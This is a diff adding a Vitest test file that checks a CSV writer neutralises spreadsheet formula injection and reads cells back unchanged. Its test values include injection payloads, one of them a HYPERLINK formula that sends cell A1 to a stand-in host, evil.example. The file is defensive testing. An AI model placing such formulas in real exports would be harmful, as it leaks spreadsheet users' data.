@@ -1,0 +1,26 @@
+import { expect, test } from 'vitest'
+import { readCsv, writeCsv } from '../../src/commission/csv.ts'
+
+test.each([
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '＝1',
+  '＋1',
+  '－1',
+  '＠a',
+  "'=1",
+  '=HYPERLINK("https://evil.example?"&A1,"x")',
+])('the cell %j is text to a spreadsheet, and is read as it was', (cell) => {
+  const csv = writeCsv([['id', cell]])
+  expect(csv).toMatch(/^id,"?'/)
+  expect(readCsv(csv)).toEqual({ rows: [['id', cell]], fault: null })
+})
+
+test.each(['-1.50', '0', '12', 'a=1', 'é', ''])('the cell %j stays as it is', (cell) => {
+  expect(writeCsv([['id', cell]])).toBe(`id,${cell}\r\n`)
+})
